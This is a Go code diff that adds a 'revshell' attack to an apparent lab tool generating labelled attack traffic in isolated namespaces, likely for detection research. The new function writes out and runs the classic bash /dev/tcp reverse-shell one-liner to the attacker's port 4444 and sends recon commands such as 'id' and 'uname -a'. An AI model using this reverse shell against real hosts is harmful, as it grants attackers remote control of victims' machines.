@@ -4,7 +4,9 @@ import (
 	"context"
 	"encoding/base32"
 	"fmt"
+	"io"
 	"math/rand/v2"
+	"net"
 	"net/netip"
 	"os"
 	"path/filepath"
@@ -16,7 +18,7 @@ import (
 )
 
 // Attack names accepted in Config.Attacks.
-var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel"}
+var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell"}
 
 // attack runs one labelled attack from the attacker host within ctx (its
 // time slot) and returns the command it ran, or a reason to skip it.
@@ -28,6 +30,7 @@ var attacks = map[string]attackFunc{
 	"hydra":     hydraAttack,
 	"beacon":    beaconAttack,
 	"dnstunnel": dnsTunnelAttack,
+	"revshell":  revshellAttack,
 }
 
 func runTool(ctx context.Context, att *host, prog string, args ...string) (string, error) {
@@ -134,6 +137,83 @@ func dnsTunnelAttack(ctx context.Context, l *lab, att *host) (string, string, er
 		}
 	}
 	return "DNS A queries for <56+40 random base32 chars>.<seq>.t.lab, ~10/s (Go client)", "", nil
+}
+
+// portShell is the attacker's listener of the reverse shell.
+const portShell = 4444
+
+// shellCommands are what the attacker types into the reverse shell, one
+// every few seconds: a look around, as after any exploit.
+var shellCommands = []string{"id", "uname -a", "ls /", "cat /etc/hostname", "exit"}
+
+// revshellAttack: the end of an exploit. The web server host (the victim)
+// runs a real bash whose standard streams are a TCP connection to the
+// attacker's port 4444 (bash's /dev/tcp, the classic one-line reverse
+// shell), and the attacker types a few commands into it. The shell runs
+// in the victim's namespace only, as root of that namespace (the lab runs
+// as root), without rc files, and is killed when the slot ends. The
+// truth's attacker is the listener; the packets that serve the shell come
+// from the victim.
+func revshellAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
+	bash, err := lookPath("bash")
+	if err != nil {
+		return "", "bash not installed", nil
+	}
+	ln, err := att.ns.listen("tcp", netip.AddrPortFrom(att.addr, portShell).String())
+	if err != nil {
+		return "", "", fmt.Errorf("listen for the shell: %w", err)
+	}
+	defer ln.Close()
+	victim := l.hosts[0]
+	line := fmt.Sprintf("exec %s --norc --noprofile -i >& /dev/tcp/%s/%d 0>&1", bash, att.addr, portShell)
+	cmd := victim.ns.command(ctx, bash, "--norc", "--noprofile", "-c", line)
+	cmd.Env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/nonexistent", "TERM=dumb"}
+	if err := cmd.Start(); err != nil {
+		return "", "", fmt.Errorf("start the victim's shell: %w", err)
+	}
+	defer func() { _ = cmd.Wait() }()
+	type accepted struct {
+		c   net.Conn
+		err error
+	}
+	ch := make(chan accepted, 1)
+	go func() { c, err := ln.Accept(); ch <- accepted{c, err} }()
+	var conn net.Conn
+	select {
+	case a := <-ch:
+		if a.err != nil {
+			return "", "", fmt.Errorf("accept the shell: %w", a.err)
+		}
+		conn = a.c
+	case <-ctx.Done():
+		_ = ln.Close()
+		return "", "", fmt.Errorf("the victim's shell did not connect: %w", ctx.Err())
+	}
+	defer conn.Close()
+	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
+	defer stop()
+	// Read whatever the shell sends (its banner, prompts, output) until it
+	// exits or the slot ends; the lab keeps none of it.
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		_, _ = io.Copy(io.Discard, conn)
+	}()
+	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0x5e11))
+	for _, c := range shellCommands {
+		if !sleep(ctx, time.Duration(1000+rng.IntN(2000))*time.Millisecond) {
+			break
+		}
+		if _, err := conn.Write([]byte(c + "\n")); err != nil {
+			break
+		}
+	}
+	select {
+	case <-done:
+	case <-ctx.Done():
+	case <-time.After(5 * time.Second):
+	}
+	return fmt.Sprintf("victim: %s; attacker on %s:%d types: %s", line, att.addr, portShell, strings.Join(shellCommands, "; ")), "", nil
 }
 
 // runAttacks runs the requested attacks one after another, each in its own
